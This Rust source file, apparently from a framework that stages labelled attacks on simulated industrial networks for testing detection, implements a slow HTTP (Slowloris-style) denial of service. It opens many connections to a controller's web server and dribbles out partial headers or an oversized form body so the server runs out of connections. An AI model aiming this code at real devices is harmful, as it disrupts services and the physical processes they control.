//! Slow HTTP: connections to a device's web server that send their requests a few bytes at a time, until
//! it has none left for others.

use super::{Attack, Needs, technique};
use crate::net::Node;
use crate::stage::{Outcome, Stage};

pub static ATTACK: Attack = Attack {
    name: "slow-http",
    about: "holds a device's web server with requests that never end",
    technique: technique("T0814"),
    acceptable: &["T0815"],
    grade: "A",
    kind: "fast",
    proto: "http",
    variants: &["headers", "body"],
    needs: Needs::Sockets,
    seconds: [900, 180, 50],
    run: |stage| Box::pin(run(stage)),
};

async fn run(mut stage: Stage) -> Outcome {
    let intruder = stage.stranger();
    let victim = stage.controller();
    let (count, pieces, pace) = stage.by((30, 30, 25.0), (120, 14, 10.0), (200, 15, 2.5));
    for _ in 0..count {
        let seed = stage.rng.clone();
        let slowly = dribble(intruder.clone(), victim, stage.is("body"), pieces, pace, seed);
        stage.world.play.spawn(slowly);
        stage.pause(stage.by(5.0, 0.3, 0.05)).await;
    }
    // The last to come is the last to go.
    stage.pause(f64::from(pieces) * pace).await;
    Ok(())
}

/// One connection: the beginning of a request, then a little more now and then, and never its end.
async fn dribble(
    node: Node,
    victim: std::net::Ipv4Addr,
    body: bool,
    pieces: u32,
    pace: f64,
    mut rng: crate::rng::Rng,
) {
    let Ok(mut raw) = node.connect(victim, 80).await else { return };
    let begin = if body {
        format!(
            "POST /config HTTP/1.1\r\nHost: {victim}\r\nContent-Type: application/x-www-form-urlencoded\r\n\
             Content-Length: 65536\r\n\r\nname="
        )
    } else {
        format!("GET /?{} HTTP/1.1\r\nHost: {victim}\r\nUser-Agent: Mozilla/5.0\r\n", rng.below(100_000))
    };
    raw.say(begin.as_bytes()).await;
    for _ in 0..pieces {
        node.pause(pace * rng.within(0.7, 1.1)).await;
        let more = if body {
            format!("{:x}", rng.below(4096))
        } else {
            format!("X-{:x}: {}\r\n", rng.below(4096), rng.below(5000))
        };
        raw.say(more.as_bytes()).await;
    }
}
